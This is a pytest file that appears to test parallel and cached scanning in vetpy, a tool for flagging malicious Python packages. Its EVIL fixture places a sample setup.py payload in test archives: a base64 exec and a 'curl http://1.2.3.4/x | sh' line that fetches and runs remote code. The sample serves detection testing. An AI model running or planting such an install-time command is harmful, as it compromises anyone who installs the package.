"""Many targets on several processes: the same results as one by one, in input order."""

from __future__ import annotations

from pathlib import Path

import pytest

import vetpy.parallel
from conftest import ArchiveBuilder
from vetpy.acquire.interface import Limits
from vetpy.acquire.targets import Target
from vetpy.cache.results import ResultCache, model_identity
from vetpy.model.rules import RuleScorer
from vetpy.parallel import scan_resolved
from vetpy.result import ScanResult
from vetpy.scan import Scanner, error_result

EVIL = "import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://1.2.3.4/x | sh')\n"


def _targets(tmp_path: Path, make_archive: ArchiveBuilder) -> list[Target | ScanResult]:
    items: list[Target | ScanResult] = []
    for i in range(5):
        code = EVIL if i % 2 else "X = 1\n"
        path = tmp_path / f"p{i}-1.0.tar.gz"
        path.write_bytes(make_archive({f"p{i}-1.0/setup.py": code.encode()}))
        items.append(Target(f"p{i}", path=path))
    items.insert(2, error_result("unresolvable", "error: not found"))
    items.append(Target("skipped", skipped="skipped: editable"))
    return items


def _comparable(results: list[ScanResult]) -> list[tuple[object, ...]]:
    return [(r.target, r.verdict, r.score, r.reasons, r.error) for r in results]


def test_parallel_equals_serial_in_input_order(tmp_path: Path, make_archive: ArchiveBuilder) -> None:
    items = _targets(tmp_path, make_archive)
    scanner = Scanner(scorer=RuleScorer())
    seen: list[str] = []
    serial = scan_resolved(scanner, items, jobs=1)
    parallel = scan_resolved(scanner, items, jobs=3, on_result=lambda r: seen.append(r.target))
    assert [r.target for r in parallel] == ["p0", "p1", "unresolvable", "p2", "p3", "p4", "skipped"]
    assert _comparable(parallel) == _comparable(serial)
    assert sorted(seen) == sorted(r.target for r in parallel)
    assert {r.verdict.value for r in parallel} == {"benign", "malicious", "error"}


def test_results_from_the_cache_start_no_worker(
    tmp_path: Path, make_archive: ArchiveBuilder, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Cached targets are answered before any process is started; only the misses go to workers."""
    items = _targets(tmp_path, make_archive)
    scorer = RuleScorer()
    cache = ResultCache(tmp_path / "c", model_id=model_identity(scorer), threshold=0.5, limits=Limits())
    scanner = Scanner(scorer=scorer, threshold=0.5, cache=cache)
    first = scan_resolved(scanner, items, jobs=2)

    def no_pool(*args: object, **kwargs: object) -> None:
        raise AssertionError("a process pool was started for cached targets")

    monkeypatch.setattr(vetpy.parallel, "ProcessPoolExecutor", no_pool)
    seen: list[str] = []
    again = scan_resolved(scanner, items, jobs=2, on_result=lambda r: seen.append(r.target))
    assert _comparable(again) == _comparable(first) and sorted(seen) == sorted(r.target for r in first)
    new = tmp_path / "new-1.0.tar.gz"
    new.write_bytes(make_archive({"new-1.0/setup.py": b"Y = 2\n"}))
    with pytest.raises(AssertionError, match="process pool"):  # two misses need the pool
        scan_resolved(scanner, [*items, Target("new", path=new), Target("new2", path=new)], jobs=2)
